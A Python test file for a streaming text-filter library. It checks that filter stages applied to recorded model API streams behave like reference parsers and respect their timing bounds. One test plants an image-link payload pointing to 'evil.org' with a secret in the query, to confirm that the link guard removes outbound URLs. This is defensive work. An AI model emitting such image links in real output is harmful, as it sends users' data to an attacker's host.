"""Every stage on the text of every recording whose format is known, against what the whole text becomes without our help.

Text stages against the standard library, `regex` or real parsers; stages about time in virtual time, with the bounds they state; what
reads ahead, for several, or again, against the items themselves.
"""

from __future__ import annotations

import asyncio
import itertools
import random
import re
import unicodedata
from collections.abc import AsyncIterator, Callable, Sequence
from typing import Any

import pytest
import regex
from laws_extract import COMMONMARK
from laws_shape import standard, strict, without_escapes
from links_reader import leaks
from recordings import body, index

import streamfilter as sf
from streamfilter.providers.detecting import Decode
from streamfilter.testing import run_virtually

ENTRIES = [
    entry
    for entry in index()
    if entry["text_chars"] and "nonjson_data" not in entry["features"] and entry["api"] != "bedrock-eventstream-invoke"
]

TABLE = str.maketrans({"e": "E", "q": None, " ": "  "})

STAGES: list[tuple[sf.Stage[str, str], Callable[[str], str]]] = [
    (sf.Words(), str),
    (sf.Lines(), str),
    (sf.Sentences(), str),
    (sf.Sentences("en", min_chars=40, max_chars=200), str),
    (sf.Paragraphs(), str),
    (sf.Graphemes(), str),
    (sf.Chunks(7), str),
    (sf.Segments(sf.by_words(3)), str),
    (sf.Markdown(), str),
    (sf.Normalize("NFC"), lambda text: unicodedata.normalize("NFC", text)),
    (sf.Normalize("NFKD"), lambda text: unicodedata.normalize("NFKD", text)),
    (sf.Strip(), str.strip),
    (sf.Collapse(), lambda text: re.sub(r"\s+", " ", text)),
    (sf.Translate(TABLE), lambda text: text.translate(TABLE)),
    (sf.Repetition(), str),
    (sf.Limit(max_chars=10**6), str),
    (sf.Collect(id), str),
    (sf.StripANSI(), without_escapes(4096)),
    (sf.Unicode(), standard),
    (sf.Unicode("strict"), strict),
    (sf.Citations(r"\[[0-9]+\]"), lambda text: re.sub(r"\[[0-9]+\]", "", text)),
    (sf.Extract("think") | sf.Drop("reasoning"), lambda text: regex.sub(r"(?s)<think>.*?(?:</think>|$)", "", text)),
]


def randomly(text: str, most: int) -> list[str]:
    """The text in pieces of random sizes."""
    rng = random.Random(most)
    cuts = [0]
    while cuts[-1] < len(text):
        cuts.append(min(len(text), cuts[-1] + rng.randint(1, most)))
    return [text[begin:end] for begin, end in itertools.pairwise(cuts)]


every_recording = pytest.mark.parametrize("entry", ENTRIES, ids=lambda entry: entry["file"])
pytestmark = pytest.mark.skipif(not ENTRIES, reason="the shared recordings are not beside this checkout")


def read(entry: dict[str, Any]) -> tuple[list[str], str]:
    """The text of a recording, as it was cut and as a whole."""
    came = list(sf.text_of([body(entry)]))
    text = "".join(came)
    assert len(text) == entry["text_chars"]
    return came, text


@every_recording
def test_every_stage_on_the_text_of_every_recording(entry: dict[str, Any]) -> None:
    """As a whole, as it was cut, and cut anew; units are the same units."""
    came, text = read(entry)
    for stage, means in STAGES:
        units: set[tuple[str, ...]] = set()
        for pieces in ([text], came, randomly(text, 3), randomly(text, 60)):
            out = [item for item in stage.iter(pieces) if isinstance(item, str)]
            assert "".join(out) == means(text), stage
            units.add(tuple(out))
        if isinstance(stage, sf.Words | sf.Lines | sf.Sentences | sf.Paragraphs | sf.Graphemes | sf.Chunks | sf.Segments):
            assert len(units) == 1
    assert tuple(sf.Graphemes().iter(came)) == tuple(regex.findall(r"\X", text))


# ------------------------------------------------------------------ against real parsers

GUARD = sf.Links(["example.com"], images=["img.example.com"])  # the hosts that `links_reader` knows
PLANTED = "![a](https://evil.org/?q=secret) <img src=//evil.org/x> "


@every_recording
def test_links_that_lead_out_are_taken_out_of_every_recording(entry: dict[str, Any]) -> None:
    """Real parsers find no URL that leads out, also where some are planted; text without a mark of a link is not touched."""
    came, text = read(entry)
    half = len(text) // 2
    planted = text[:half] + PLANTED + text[half:]
    for whole in (text, planted):
        out = GUARD.apply(whole)
        assert "".join(GUARD.iter(randomly(whole, 3))) == "".join(GUARD.iter(randomly(whole, 60))) == out
        assert not leaks(out)
        assert "evil.org" not in out
    assert "".join(GUARD.iter(came)) == GUARD.apply(text)
    if not re.search(r"[]<:\\&]|www", text):
        assert GUARD.apply(text) == text


@every_recording
def test_the_code_of_every_recording_is_that_of_a_markdown_parser(entry: dict[str, Any]) -> None:
    """The blocks, their languages and their code; and outside of them the lines that are in none."""
    came, text = read(entry)
    tokens = [token for token in COMMONMARK.parse(text) if token.type == "fence"]
    lines = text.splitlines(keepends=True)
    for pieces in ([text], came, randomly(text, 3)):
        blocks: list[list[str]] = []
        outside = ""
        for item in sf.CodeFences().iter(pieces):
            if isinstance(item, sf.CodeStart):
                blocks.append([item.info, ""])
            elif isinstance(item, sf.CodeDelta):
                blocks[-1][1] += item.text
            elif isinstance(item, str):
                outside += item
        assert blocks == [[token.info.strip(), token.content] for token in tokens]
        inside = {line for token in tokens if token.map for line in range(*token.map)}
        if not any(token.level for token in tokens):  # else marks of lists stand before the fences
            assert outside == "".join(line for n, line in enumerate(lines) if n not in inside)


# ------------------------------------------------------------------ in virtual time

PAUSES = (0.0, 0.0, 0.01, 0.01, 0.05, 0.4, 2.5)
NOW = (0.0, 1.0, 0.0)  # a backoff that does not wait


class Timed:
    """Pieces with pauses between them, and when each character came."""

    def __init__(self, text: str) -> None:
        rng = random.Random(text)
        self.pieces = [(rng.choice(PAUSES), piece) for piece in randomly(text, 40)]
        self.came: list[float] = []

    async def __aiter__(self) -> AsyncIterator[str]:
        now = asyncio.get_running_loop().time
        for pause, piece in self.pieces:
            if pause:
                await asyncio.sleep(pause)
            self.came += [now()] * len(piece)
            yield piece


async def timed(stage: sf.Stage[Any, Any], source: Any) -> list[tuple[float, Any]]:
    """What leaves, and when."""
    now = asyncio.get_running_loop().time
    async with stage(source) as stream:
        return [(now(), item) async for item in stream]


@every_recording
@pytest.mark.parametrize(
    ("stage", "bound"),
    [(sf.Pace(chars_per_second=40), 1.0), (sf.Pace(delay=0.1, max_lag=0.5), 0.5), (sf.Coalesce(0.3, max_chars=100), 0.3)],
    ids=repr,
)
def test_text_that_is_paced_is_whole_and_never_late(entry: dict[str, Any], stage: sf.Stage[Any, Any], bound: float) -> None:
    """No character leaves before it came, or later than the stage says."""
    _, text = read(entry)
    source = Timed(text)
    out = run_virtually(timed(stage, source), debug=False)
    assert "".join(item for _, item in out) == text
    left = [moment for moment, item in out for _ in item]
    assert all(-1e-6 <= gone - came <= bound + 1e-6 for came, gone in zip(source.came, left, strict=True))
    if isinstance(stage, sf.Coalesce):
        assert all(len(item) <= 100 for _, item in out)


@every_recording
def test_a_silent_recording_is_kept_alive_or_given_up(entry: dict[str, Any]) -> None:
    """`KeepAlive`: the text, and no silence that is longer than it says; `Timeout`: the text up to the first long pause."""
    _, text = read(entry)
    out = run_virtually(timed(sf.KeepAlive(1, sf.Raw(": alive", scope=None)), Timed(text)), debug=False)
    assert "".join(item for _, item in out if isinstance(item, str)) == text
    moments = [0.0, *(moment for moment, _ in out)]
    assert all(later - earlier <= 1 + 1e-6 for earlier, later in itertools.pairwise(moments))
    assert sum(isinstance(item, sf.Raw) for _, item in out) == sum(int(pause) for pause, _ in Timed(text).pieces)

    patient = run_virtually(timed(sf.Timeout(first=3, between=3), Timed(text)), debug=False)
    assert "".join(item for _, item in patient) == text
    given: list[str] = []

    async def hurried() -> None:
        async with sf.Timeout(first=1, between=1)(Timed(text)) as stream:
            async for item in stream:
                given.append(item)  # noqa: PERF401  # the error comes behind it

    pieces = Timed(text).pieces
    before = [piece for _, piece in itertools.takewhile(lambda each: each[0] < 1, pieces)]
    if len(before) < len(pieces):
        with pytest.raises(sf.SourceTimeout):
            run_virtually(hurried(), debug=False)
    else:
        run_virtually(hurried(), debug=False)
    assert given == before


# ------------------------------------------------------------------ read ahead, by several, and again


async def each(items: Sequence[Any]) -> AsyncIterator[Any]:
    for item in items:
        yield item


async def all_of(stream: Any) -> list[Any]:
    async with stream:
        return [item async for item in stream]


@every_recording
def test_what_reads_ahead_or_for_several_gives_every_event(entry: dict[str, Any]) -> None:
    """`Buffer` and `Tee`: the events of the recording, each of them, in their order, for every reader."""
    events = list(Decode().iter([body(entry)]))
    assert "".join(event.text for event in events if isinstance(event, sf.TextDelta) and event.channel.kind == "answer")

    async def main() -> None:
        assert await all_of(sf.Buffer(3)(each(events))) == events
        readers = sf.Tee(3, max_items=5)(each(events))
        assert await asyncio.gather(*map(all_of, readers)) == [events] * 3

    run_virtually(main(), debug=False)


class Reset(ConnectionError):
    """A drop."""


@every_recording
def test_a_recording_that_drops_is_resumed_without_a_seam(entry: dict[str, Any]) -> None:
    """By continuing a prefix, by restarting and skipping what was given, and by event id."""
    came, text = read(entry)
    events = list(enumerate(came))
    rng = random.Random(text)

    async def dropping(items: Sequence[Any], point: sf.ResumePoint) -> AsyncIterator[Any]:
        stop = rng.randint(0, len(items)) if point.attempt < 3 else len(items)
        for item in items[:stop]:
            yield item
        if stop < len(items):
            raise Reset

    async def main() -> None:
        prefix = sf.Resume(
            lambda point: dropping(randomly(text[len(point.text) :], 9), point), attempts=9, restart="never", backoff=NOW
        )
        assert "".join(await all_of(sf.Pipeline()(prefix))) == text
        again = sf.Resume(
            lambda point: dropping(randomly(text, 3 + point.attempt), point), attempts=9, restart="verify", backoff=NOW
        )
        assert "".join(await all_of(sf.Pipeline()(again))) == text

        def after(point: sf.ResumePoint) -> AsyncIterator[Any]:
            return dropping(events[0 if point.last_id is None else point.last_id + 1 :], point)

        by_id = sf.Resume(after, attempts=9, id=lambda item: item[0], text=lambda item: item[1], backoff=NOW)
        assert await all_of(sf.Pipeline()(by_id)) == events

    run_virtually(main(), debug=False)
